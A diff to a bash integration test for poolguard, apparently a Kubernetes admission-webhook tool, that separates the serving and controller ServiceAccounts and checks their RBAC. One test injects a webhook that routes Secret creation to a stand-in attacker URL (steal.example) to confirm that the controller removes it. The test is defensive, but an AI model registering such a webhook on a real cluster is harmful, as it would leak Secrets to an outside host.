@@ -59,16 +59,21 @@ poolguard="$(cd "$(dirname "$poolguard")" && pwd)/$(basename "$poolguard")"
 chart=charts/poolguard
 release=poolguard
 ns="poolguard-system"
+# The serving pods' identity, and the controller's (which writes what poolguard writes).
 sa="system:serviceaccount:${ns}:poolguard"
+csa="system:serviceaccount:${ns}:poolguard-controller"
 helm="${HELM:-$(bash integration/helm/helm.sh | tail -n1)}"
 
 state="$(bash integration/controlplane/start.sh | tail -n1)"
-pg_pid=""
+pg_pid="" controller_pid=""
 cleanup() {
-    if [[ -n "$pg_pid" ]] && kill -0 "$pg_pid" 2>/dev/null; then
-        kill -TERM "$pg_pid" 2>/dev/null
-        wait "$pg_pid" 2>/dev/null
-    fi
+    local pid
+    for pid in "$pg_pid" "$controller_pid"; do
+        if [[ -n "$pid" ]] && kill -0 "$pid" 2>/dev/null; then
+            kill -TERM "$pid" 2>/dev/null
+            wait "$pid" 2>/dev/null
+        fi
+    done
     bash integration/controlplane/stop.sh "$state" --purge >/dev/null 2>&1 || true
 }
 trap cleanup EXIT
@@ -97,12 +102,14 @@ expect_not() { # description reason command... (must fail, with reason in its ou
         bad "$what: failed, but not with '${reason}': $(tail -n3 "$cmd_out")"
     fi
 }
-can_i() { # yes|no verb resource [args...]
-    local want="$1"; shift
+can_i_as() { # serviceaccount yes|no verb resource [args...]
+    local who="$1" want="$2"; shift 2
     local got
-    got="$(kubectl auth can-i --as="$sa" "$@" 2>/dev/null || true)"
-    if [[ "$got" == "$want" ]]; then ok "can-i $* = $want"; else bad "can-i $* = '${got}', want ${want}"; fi
+    got="$(kubectl auth can-i --as="$who" "$@" 2>/dev/null || true)"
+    if [[ "$got" == "$want" ]]; then ok "${who##*:}: can-i $* = $want"; else bad "${who##*:}: can-i $* = '${got}', want ${want}"; fi
 }
+can_i() { can_i_as "$csa" "$@"; }     # the controller
+serving_can_i() { can_i_as "$sa" "$@"; }
 # A pod that needs no controller: created and stored, never scheduled.
 run_pod() { # namespace name
     kubectl -n "$1" run "$2" --image=registry.example.com/pause:3.10 --restart=Never \
@@ -187,6 +194,38 @@ expect "pod in kube-system is never sent to poolguard" run_pod kube-system p1
 expect "namespace operations are not matched" kubectl create namespace other
 
 # --- RBAC ----------------------------------------------------------------------------------------
+# The serving pods read, and write nothing but their admission counts into the rollout state: no
+# admission configuration, RBAC, Secret, report, Lease or other ConfigMap.
+serving_can_i yes watch namespaces
+serving_can_i yes watch nodes
+serving_can_i yes get namespaces/team-a
+serving_can_i no patch mutatingwebhookconfigurations/poolguard-mutating
+serving_can_i no patch validatingwebhookconfigurations/poolguard-validating
+serving_can_i no get validatingwebhookconfigurations/poolguard-validating
+serving_can_i no create validatingadmissionpolicies.admissionregistration.k8s.io
+serving_can_i no create mutatingadmissionpolicies.admissionregistration.k8s.io
+serving_can_i no patch validatingadmissionpolicybindings.admissionregistration.k8s.io/any
+serving_can_i no create rolebindings.rbac.authorization.k8s.io -n kube-system
+serving_can_i no create clusterrolebindings.rbac.authorization.k8s.io
+serving_can_i no create secrets -n "$ns"
+serving_can_i no get secrets/poolguard-tls -n "$ns"
+serving_can_i no update secrets/poolguard-tls -n "$ns"
+serving_can_i no list pods -A
+serving_can_i no patch policyreports.wgpolicyk8s.io/poolguard-audit -n team-a
+serving_can_i no create leases.coordination.k8s.io -n "$ns"
+serving_can_i no update leases.coordination.k8s.io/poolguard-audit -n "$ns"
+serving_can_i no list endpointslices.discovery.k8s.io -n "$ns"
+serving_can_i no patch configmaps/poolguard-rollouts -n "$ns"
+serving_can_i yes watch configmaps/poolguard-rollouts -n "$ns"
+serving_can_i yes patch configmaps/poolguard-rollouts-counts -n "$ns"
+serving_can_i no get configmaps/poolguard-rollouts-counts -n "$ns"
+can_i yes get configmaps/poolguard-rollouts-counts -n "$ns"
+can_i no patch configmaps/poolguard-rollouts-counts -n "$ns"
+serving_can_i no create configmaps -n "$ns"
+serving_can_i no patch configmaps/someone-elses -n "$ns"
+serving_can_i no create events -n "$ns"
+serving_can_i no create pods -n "$ns"
+# The controller: the same reads, and what poolguard writes.
 can_i yes watch namespaces
 # The node watch cache (what each pool can do, for the placement policies), audit or not.
 can_i yes watch nodes
@@ -368,22 +407,30 @@ done
 
 # shellcheck source=integration/controlplane/free-port.sh
 source integration/controlplane/free-port.sh
-# A kubeconfig for poolguard's ServiceAccount: everything below runs under the chart's RBAC.
-sa_kubeconfig="${state}/poolguard.kubeconfig"
-token="$(kubectl -n "$ns" create token poolguard --duration=1h)" || die "TokenRequest for ServiceAccount poolguard failed"
-sakc() { "${POOLGUARD_CP_BIN}/kubectl" --kubeconfig="$sa_kubeconfig" "$@" >/dev/null; }
-sakc config set-cluster throwaway --server="$POOLGUARD_CP_APISERVER" --certificate-authority="$POOLGUARD_CP_CA" --embed-certs
-sakc config set-credentials poolguard --token="$token"
-sakc config set-context poolguard --cluster=throwaway --user=poolguard
-sakc config use-context poolguard
-whoami="$("${POOLGUARD_CP_BIN}/kubectl" --kubeconfig="$sa_kubeconfig" auth whoami -o jsonpath='{.status.userInfo.username}' 2>&1 || true)"
-if [[ "$whoami" == "$sa" ]]; then ok "poolguard's kubeconfig authenticates as ${sa}"; else bad "poolguard's kubeconfig authenticates as '${whoami}'"; fi
+# Kubeconfigs for the two ServiceAccounts: everything below runs under the chart's RBAC.
+sa_kubeconfig_for() { # serviceaccount -> kc: the kubeconfig's path
+    local account="$1" token whoami
+    kc="${state}/$1.kubeconfig"
+    token="$(kubectl -n "$ns" create token "$account" --duration=1h)" || die "TokenRequest for ServiceAccount ${account} failed"
+    sakc() { "${POOLGUARD_CP_BIN}/kubectl" --kubeconfig="$kc" "$@" >/dev/null; }
+    sakc config set-cluster throwaway --server="$POOLGUARD_CP_APISERVER" --certificate-authority="$POOLGUARD_CP_CA" --embed-certs
+    sakc config set-credentials "$account" --token="$token"
+    sakc config set-context "$account" --cluster=throwaway --user="$account"
+    sakc config use-context "$account"
+    whoami="$("${POOLGUARD_CP_BIN}/kubectl" --kubeconfig="$kc" auth whoami -o jsonpath='{.status.userInfo.username}' 2>&1 || true)"
+    if [[ "$whoami" == "system:serviceaccount:${ns}:${account}" ]]; then ok "${account}'s kubeconfig authenticates as ${whoami}"; else bad "${account}'s kubeconfig authenticates as '${whoami}'"; fi
+}
+sa_kubeconfig_for poolguard
+sa_kubeconfig="$kc"
+sa_kubeconfig_for poolguard-controller
+csa_kubeconfig="$kc"
 
 # The Deployment's ConfigMaps and container arguments, as files and arguments for a poolguard on
 # loopback (read_deployment; run again after an upgrade).
-read_deployment() {
+read_deployment() { # deployment (poolguard: the serving pods; poolguard-controller)
+    local deployment="$1"
     # Listen addresses on free loopback ports, the ConfigMaps' files where the pod would mount them.
-    pg_dir="${state}/poolguard"
+    pg_dir="${state}/${deployment}"
     mkdir -p "${pg_dir}/config"
     kubectl -n "$ns" get configmap poolguard-config -o json | jq -j '.data["config.yaml"]' >"${pg_dir}/config/config.yaml"
     for dir in policies placement-policies webhooks; do
@@ -408,10 +455,19 @@ read_deployment() {
             --policies-dir) arg="${pg_dir}${arg}" ;;
             --placement-policies-dir) arg="${pg_dir}${arg}" ;;
             --register-webhooks) arg="${pg_dir}${arg}" ;;
+            --tls-cert-file | --tls-key-file) arg="${pg_dir}${arg}" ;;
         esac
         args+=("$arg")
         prev="$arg"
-    done < <(kubectl -n "$ns" get deployment poolguard -o json | jq -r '.spec.template.spec.containers[0].args[]')
+    done < <(kubectl -n "$ns" get deployment "$deployment" -o json | jq -r '.spec.template.spec.containers[0].args[]')
+}
+# The TLS Secret's files where the serving pods mount it (/tls).
+mount_tls_secret() {
+    mkdir -p "${pg_dir}/tls"
+    local key
+    for key in tls.crt tls.key ca.crt; do
+        kubectl -n "$ns" get secret poolguard-tls -o json | jq -r --arg k "$key" '.data[$k]' | base64 -d >"${pg_dir}/tls/${key}"
+    done
 }
 arg_value() { # flag -> the argument after it in args
     local i
@@ -419,28 +475,32 @@ arg_value() { # flag -> the argument after it in args
         [[ "${args[i]}" == "$1" ]] && { printf '%s\n' "${args[i + 1]}"; return 0; }
     done
 }
-# Starts poolguard with the Deployment's arguments (read_deployment first), as its ServiceAccount.
-start_poolguard() {
+# Starts poolguard with the Deployment's arguments (read_deployment first), as its ServiceAccount
+# (a kubeconfig); its log is ${state}/<log>.log.
+start_poolguard() { # kubeconfig log
+    local kubeconfig="$1" log="$2"
     # A binary older than the chart's flags cannot run the Deployment's arguments: say which.
-    serve_help="$("$poolguard" serve --help 2>&1 || true)"
+    serve_help="$("$poolguard" "${args[0]}" --help 2>&1 || true)"
     unknown=()
     for arg in "${args[@]}"; do
         [[ "$arg" == --* ]] || continue
         grep -qE -- "(^|[[:space:]])${arg%%=*}([[:space:]=]|$)" <<<"$serve_help" || unknown+=("$arg")
     done
     ((${#unknown[@]} == 0)) \
-        || die "${poolguard} does not know the flags ${unknown[*]} that the chart's Deployment passes to poolguard serve (build a poolguard that has them)"
+        || die "${poolguard} does not know the flags ${unknown[*]} that the chart's Deployment passes to poolguard ${args[0]} (build a poolguard that has them)"
     log "starting ${poolguard} ${args[*]}"
     # POD_NAME and POD_NAMESPACE as the downward API sets them in the pod.
-    POD_NAME=poolguard-install-test POD_NAMESPACE="$ns" KUBECONFIG="$sa_kubeconfig" \
-        "$poolguard" "${args[@]}" </dev/null >"${state}/poolguard.log" 2>&1 &
+    POD_NAME="${log}-install-test" POD_NAMESPACE="$ns" KUBECONFIG="$kubeconfig" \
+        "$poolguard" "${args[@]}" </dev/null >"${state}/${log}.log" 2>&1 &
     pg_pid=$!
 }
-read_deployment
-[[ " ${args[*]} " == *" --manage-certs "* ]] || die "the Deployment does not run --manage-certs: ${args[*]}"
+read_deployment poolguard-controller
+[[ " ${args[*]} " == *" --manage-certs "* ]] || die "the controller does not run --manage-certs: ${args[*]}"
 cert_secret="$(arg_value --cert-secret)"
 [[ "$cert_secret" == "${ns}/poolguard-tls" ]] || die "--cert-secret is '${cert_secret}', expected ${ns}/poolguard-tls"
-start_poolguard
+cert_dns="$(arg_value --cert-dns-name)"
+start_poolguard "$csa_kubeconfig" controller
+controller_pid=$pg_pid
 injected() { # all caBundles of both configurations set, and the Secret there
     local kind
     kubectl -n "$ns" get secret poolguard-tls >/dev/null 2>&1 || return 1
@@ -452,14 +512,19 @@ injected() { # all caBundles of both configurations set, and the Secret there
 deadline=$((SECONDS + 60))
 until injected; do
     if ! kill -0 "$pg_pid" 2>/dev/null || ((SECONDS >= deadline)); then
-        tail -n 30 "${state}/poolguard.log" >&2
-        die "poolguard did not create its Secret and inject the CA into both configurations within 60s"
+        tail -n 30 "${state}/controller.log" >&2
+        die "poolguard controller did not create its Secret and inject the CA into both configurations within 60s"
     fi
     sleep 0.5
 done
-ok "poolguard created Secret ${cert_secret} and injected a caBundle into both configurations"
-# It serves the certificate it keeps in the Secret, for the Service's name.
-cert_dns="$(arg_value --cert-dns-name)"
+ok "poolguard controller created Secret ${cert_secret} and injected a caBundle into both configurations"
+# The serving pods serve the certificate the controller keeps in the Secret (mounted), for the
+# Service's name.
+read_deployment poolguard
+[[ " ${args[*]} " != *" --manage-certs "* && "$(arg_value --tls-cert-file)" == "${pg_dir}/tls/tls.crt" ]] \
+    || die "the serving Deployment does not read its certificate from the mounted Secret: ${args[*]}"
+mount_tls_secret
+start_poolguard "$sa_kubeconfig" poolguard
 kubectl -n "$ns" get secret poolguard-tls -o jsonpath='{.data.ca\.crt}' | base64 -d >"${state}/secret-ca.crt"
 deadline=$((SECONDS + 30))
 until served="$(openssl s_client -connect "127.0.0.1:${pg_port}" -servername "$cert_dns" -verify_hostname "$cert_dns" \
@@ -482,10 +547,11 @@ if grep -q 'node cache synced' "${state}/poolguard.log" && ! grep -q 'node watch
 else
     bad "poolguard's node watch cache: $(grep -m2 -E 'node (cache|watch)' "${state}/poolguard.log" || echo 'no sync logged in 30s')"
 fi
-kill -TERM "$pg_pid"
-if wait "$pg_pid"; then pg_rc=0; else pg_rc=$?; fi
-if ((pg_rc == 0)); then ok "poolguard exited 0 on SIGTERM"; else bad "poolguard exited ${pg_rc} on SIGTERM (log: ${state}/poolguard.log)"; fi
-pg_pid=""
+for pid_log in "${pg_pid}:poolguard" "${controller_pid}:controller"; do
+    if kill -TERM "${pid_log%%:*}" && wait "${pid_log%%:*}"; then pg_rc=0; else pg_rc=$?; fi
+    if ((pg_rc == 0)); then ok "poolguard (${pid_log#*:}) exited 0 on SIGTERM"; else bad "poolguard (${pid_log#*:}) exited ${pg_rc} on SIGTERM (log: ${state}/${pid_log#*:}.log)"; fi
+done
+pg_pid="" controller_pid=""
 
 bundle="$(kubectl -n "$ns" get secret poolguard-tls -o jsonpath='{.data.ca\.crt}')"
 [[ -n "$bundle" ]] || bad "Secret ${cert_secret} has no ca.crt"
@@ -564,19 +630,19 @@ rendered_webhooks() { # kind_name -> its webhooks as rendered with registration=
 registered_webhooks() { # kind name
     kubectl get "$1" "$2" -o json | jq -S '.webhooks | map(.clientConfig |= del(.caBundle))'
 }
-read_deployment
+read_deployment poolguard-controller
 [[ "$(arg_value --register-webhooks)" == "${pg_dir}/webhooks/webhooks.yaml" ]] \
-    || die "the Deployment does not run --register-webhooks /webhooks/webhooks.yaml: ${args[*]}"
-start_poolguard
+    || die "the controller does not run --register-webhooks /webhooks/webhooks.yaml: ${args[*]}"
+start_poolguard "$csa_kubeconfig" controller
 # Serving, but no ready endpoint behind the Service (no kubelet here): nothing is registered.
 deadline=$((SECONDS + 30))
-until grep -q 'waiting for a ready endpoint' "${state}/poolguard.log" || ((SECONDS >= deadline)); do sleep 0.5; done
+until grep -q 'waiting for a ready endpoint' "${state}/controller.log" || ((SECONDS >= deadline)); do sleep 0.5; done
 sleep 3
-if grep -q 'waiting for a ready endpoint' "${state}/poolguard.log" \
+if grep -q 'waiting for a ready endpoint' "${state}/controller.log" \
     && [[ "$(webhook_count mutatingwebhookconfiguration poolguard-mutating)$(webhook_count validatingwebhookconfiguration poolguard-validating)" == 00 ]]; then
     ok "poolguard serves but registers nothing while its Service has no ready endpoint"
 else
-    bad "registration without a ready endpoint: $(grep -m2 -E 'endpoint|regist' "${state}/poolguard.log" || echo 'nothing logged')"
+    bad "registration without a ready endpoint: $(grep -m2 -E 'endpoint|regist' "${state}/controller.log" || echo 'nothing logged')"
 fi
 # What the EndpointSlice controller writes once a poolguard pod is ready (no controller runs here;
 # nothing ever connects to the documentation address).
@@ -602,10 +668,10 @@ registered() {
 }
 deadline=$((SECONDS + 30))
 until registered || ((SECONDS >= deadline)); do sleep 0.5; done
-if registered && grep -q 'webhooks registered' "${state}/poolguard.log"; then
+if registered && grep -q 'webhooks registered' "${state}/controller.log"; then
     ok "poolguard registered its webhooks once the Service had a ready endpoint"
 else
-    tail -n 20 "${state}/poolguard.log" >&2
+    tail -n 20 "${state}/controller.log" >&2
     bad "poolguard did not register its webhooks within 30s of a ready endpoint"
 fi
 bundle="$(kubectl -n "$ns" get secret poolguard-tls -o jsonpath='{.data.ca\.crt}')"
@@ -646,21 +712,24 @@ for kind_name in MutatingWebhookConfiguration ValidatingWebhookConfiguration; do
         bad "${name}: after the upgrade, registered webhooks differ from the chart's: $(head -n 30 "$cmd_out")"
     fi
 done
-# The list of webhooks is poolguard's alone: a webhook someone adds with a token that may patch
-# the configuration (here: poolguard's own ServiceAccount's, the serving pods' token) is removed
-# at the next registration pass, logged with where it sent requests, and counted.
+# The list of webhooks is poolguard's alone. The serving pods' token cannot add one; a webhook
+# someone adds with a token that may patch the configuration (here: an admin's) is removed at the
+# controller's next registration pass, logged with where it sent requests, and counted.
 foreign='{"name": "steal.example.com", "clientConfig": {"url": "https://steal.example/secrets"}, "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"]}], "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore"}'
-expect "a token that may patch the validating configuration adds a webhook on Secrets with a foreign url" \
+expect_not "the serving pods' token cannot add a webhook to the validating configuration" forbidden \
     kubectl --kubeconfig "$sa_kubeconfig" patch validatingwebhookconfiguration poolguard-validating --type json \
+    -p "[{\"op\": \"add\", \"path\": \"/webhooks/-\", \"value\": ${foreign}}]"
+expect "an admin adds a webhook on Secrets with a foreign url" \
+    kubectl patch validatingwebhookconfiguration poolguard-validating --type json \
     -p "[{\"op\": \"add\", \"path\": \"/webhooks/-\", \"value\": ${foreign}}]"
 has_foreign() { kubectl get validatingwebhookconfiguration poolguard-validating -o json | jq -e '[.webhooks[].name] | index("steal.example.com") != null' >/dev/null; }
 deadline=$((SECONDS + 45))
 while has_foreign && ((SECONDS < deadline)); do sleep 1; done
-if ! has_foreign && grep -q 'removed a webhook poolguard did not write' "${state}/poolguard.log" \
-    && grep 'removed a webhook poolguard did not write' "${state}/poolguard.log" | grep -q 'https://steal.example/secrets'; then
+if ! has_foreign && grep -q 'removed a webhook poolguard did not write' "${state}/controller.log" \
+    && grep 'removed a webhook poolguard did not write' "${state}/controller.log" | grep -q 'https://steal.example/secrets'; then
     ok "the foreign webhook was removed within $((45 - (deadline - SECONDS))) s and logged with its url"
 else
-    bad "the foreign webhook is still registered or was not logged: $(grep -m2 -E 'removed|foreign' "${state}/poolguard.log" || echo 'nothing logged')"
+    bad "the foreign webhook is still registered or was not logged: $(grep -m2 -E 'removed|foreign' "${state}/controller.log" || echo 'nothing logged')"
 fi
 removed="$(curl -sf "http://127.0.0.1:${metrics_port}/metrics" | awk '$1 == "poolguard_foreign_webhooks_removed_total" {print $2}')"
 if [[ "$removed" == 1 ]]; then ok "poolguard_foreign_webhooks_removed_total 1"; else bad "poolguard_foreign_webhooks_removed_total '${removed}'"; fi
